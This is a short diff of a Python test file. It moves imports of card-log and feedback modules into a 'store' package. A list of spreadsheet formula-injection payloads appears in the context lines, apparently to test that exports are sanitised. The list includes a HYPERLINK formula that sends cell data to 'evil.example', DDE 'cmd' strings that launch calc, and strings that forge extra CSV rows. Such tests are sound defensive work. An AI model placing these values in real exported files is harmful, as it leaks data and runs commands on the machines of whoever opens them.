@@ -11,9 +11,10 @@ from datetime import UTC, datetime, timedelta
 from sqlalchemy import func, select
 from typer.testing import CliRunner
 
-from cds.cardlog import card_rows
 from cds.cli import app as cli
-from cds.feedback import FeedbackRequest, FeedbackStore, feedback, issued_cards
+from cds.store.cardlog import card_rows
+from cds.store.feedback import FeedbackRequest, FeedbackStore
+from cds.store.tables import feedback, issued_cards
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "a\rforged,row", "b\nforged,row", "c\r\n=1+1,forged"]
